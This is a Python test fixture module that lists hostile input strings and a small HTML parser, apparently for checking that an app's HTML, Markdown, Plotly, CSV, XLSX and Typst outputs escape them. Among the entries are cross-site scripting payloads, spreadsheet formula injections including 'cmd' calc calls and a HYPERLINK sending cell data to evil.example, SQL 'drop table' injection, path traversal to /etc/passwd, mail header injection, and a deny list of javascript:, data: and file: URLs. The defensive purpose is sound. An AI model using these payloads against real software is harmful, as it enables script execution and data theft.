"""The one list of texts that a careless output would run, follow, draw or break on.

Each has a name, and a comment that says what it would do. `REFUSED` are those that no source
may hold: a load says so. All others are stored and shown as they are.
"""

from __future__ import annotations

import io
import zipfile
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

ACCEPTED: dict[str, str] = {
    # HTML: makes letters bold, and runs a script where text is put into a page as it is.
    "script": "<b>bold</b> & <script>alert(1)</script>",
    # HTML: runs a script once a picture cannot be loaded.
    "picture": "<img src=x onerror=alert(1)>",
    # HTML: ends an attribute and begins one that runs a script.
    "attribute": 'x" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    # HTML: the same in an attribute that is quoted the other way.
    "other attribute": "x' onmouseover='alert(1)",
    # HTML: ends the script or the style sheet that it stands in.
    "end of script": "</script></style><svg onload=alert(1)>",
    # HTML: a reference to a character would be read as that character.
    "reference": "&lt;i&gt; &copy; &#x41;",
    # HTML: a comment would hide what follows.
    "comment": "<!-- hidden",
    # CSS: ends a string, and loads a file from another host.
    "style": '"; } * { background: url(https://evil.example/a.png) } /*',
    # Markdown: loads a picture from another host.
    "Markdown picture": "![seen](https://evil.example/seen.png)",
    # Markdown: a link that runs a script.
    "Markdown link": "[press](javascript:alert(1))",
    # Streamlit: paints a status that nobody reported.
    "badge": ":green-badge[On track] :red[off]",
    # Streamlit: a picture of its own, found after Markdown is read.
    "picture by name": "a :material/home: b :streamlit: c :smile:",
    # Streamlit: sets formulas.
    "mathematics": "$x^2$ costs $5",
    # Streamlit: signs that become one letter, and so another text.
    "arrows": "a -> b <- c -- d >= e <= f ~= g",
    # Markdown: a heading, a list, a quotation, a table, code.
    "blocks": "# one ## two - three > four | five | `six` ~~seven~~ *eight* _nine_",
    # Markdown: addresses that become links by themselves.
    "bare addresses": "www.evil.example https://evil.example/x mail@evil.example",
    # Plotly: a link, bold, a line break.
    "Plotly": '<a href="https://evil.example">go</a><b>b</b><br>next<sup>2</sup>',
    # Plotly: a place that it fills in, and the end of what it shows.
    "Plotly place": "%{x} %{customdata[0]} <extra></extra>",
    # CSV, XLSX: formulas, by each sign that begins one.
    "formula": '=HYPERLINK("https://evil.example?"&A1,"press")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-1+1",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    # CSV: the same after what some programs drop.
    "formula after an apostrophe": "'=1+1",
    "formula after nothing to see": "\u2060=1+1",
    # CSV: a wide sign, which some programs take for a narrow one.
    "wide formula": "\uff1d1+1",
    # CSV: ends a cell and a row.
    "row": 'a "quoted", cell;\r\n=1+1,next',
    # XLSX: stands for a carriage return, and for an A.
    "escape of XLSX": "_x000D_ _x0041_",
    # XLSX: begins the command of a page's foot.
    "foot": 'R&D &P &L &"Arial" &&',
    # Typst: sets the page anew; ends in an error.
    "Typst": "#set page(width: 1cm) $x^2$ *strong* _emph_ `raw` @label <label> \\ // no comment",
    # Templates: would be filled in.
    "template": "{{ user }} {% raw %} ${x} {0} {city} %s %(x)s",
    # A path and the name of a file: leaves the folder.
    "path": "../../etc/passwd C:\\con\\nul",
    # A header of mail or of an answer: begins another one.
    "header": "Bristol\r\nBcc: all@evil.example",
    # A letter without width, and one that joins.
    "no width": "zero\u200bwidth\u200djoined\ufeffend",
    # Every kind of letter that has to come out again.
    "letters": "Ynys Môn, Llŷn, Ŵyl, \U0001f642, עברית",
    # Hebrew or Arabic letters turn what stands beside them.
    "right to left": "שלום (1) עולם",
    # Words that hold more than a line, a cell or a page is wide.
    "long word": "x" * 900,
    "quotes": 'a "quote", an apostrophe’s, a back\\slash',
    # SQL: ends a string.
    "SQL": "'; drop table db.initiative; --",
}
REFUSED: dict[str, str] = {
    # Ends a string in C, is not text for DuckDB or XML.
    "null": "null\x00byte",
    # Steers a terminal.
    "escape": "red \x1b[31m bell\x07",
    # The same as one letter of the second set of control characters.
    "escape in one": "red \x9b31m next\x85line",
    # Turns the rest of the line around: what is read is not what is there.
    "turned around": "report\u202efdp.exe",
    "turned apart": "one\u2067two\u2066three",
    # XML has no way to write it.
    "no character": "no\ufffe\uffffcharacter",
}
# Half of a letter: no file that is UTF-8 holds one.
HALF = "half \ud800 letter"
EVERY: dict[str, str] = {**ACCEPTED, **REFUSED, "half": HALF}

# Addresses that are stored as links, and what their links lead to.
LINKS: dict[str, str] = {
    "https://example.org/a?b=1&c=%20d": "https://example.org/a?b=1&c=%20d",
    'https://example.org/"><script>alert(1)</script>': "https://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://example.org/'onmouseover='alert(1)": "https://example.org/'onmouseover='alert(1)",
    "https://example.org/Llŷn": "https://example.org/Ll%C5%B7n",
    "HTTPS://EXAMPLE.ORG/)[x](javascript:alert(1))": "HTTPS://EXAMPLE.ORG/)[x](javascript:alert(1))",
}
# Addresses that run or read something; no source may hold them, and no output may lead there.
NO_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    "ftp://evil.example/x",
    "https://",
    "http://[x",
    "http://a:b",
)


class Tags(HTMLParser):
    """Collect the elements of HTML, with their attributes, and its texts."""

    def __init__(self, body: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(body)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def kinds(self) -> Counter[str]:
        """Count the elements by their kind."""
        return Counter(tag for tag, _attributes in self.tags)

    def live(self) -> list[str]:
        """List what would run a script, load a file or lead to another scheme."""
        found = []
        for tag, attributes in self.tags:
            found += [tag] if tag in {"img", "iframe", "object", "embed", "form", "input", "svg"} else []
            found += [f"{tag} {name}" for name in attributes if name.startswith("on")]
            found += [
                f"{tag} {value}"
                for value in (attributes.get("href"), attributes.get("src"))
                if leads_astray(value)
            ]
        return found


def leads_astray(address: str | None) -> bool:
    """Say whether an address is one that neither the web, mail nor the file itself has."""
    return urlsplit((address or "").strip()).scheme.casefold() not in {"", "http", "https", "mailto"}


def parts_of(archive: bytes) -> Iterator[tuple[str, bytes]]:
    """Give every part of an Office file, and of the workbooks in it."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        for name in opened.namelist():
            content = opened.read(name)
            yield name, content
            if name.endswith((".xlsx", ".docx", ".pptx")):
                yield from ((f"{name}/{inner}", part) for inner, part in parts_of(content))
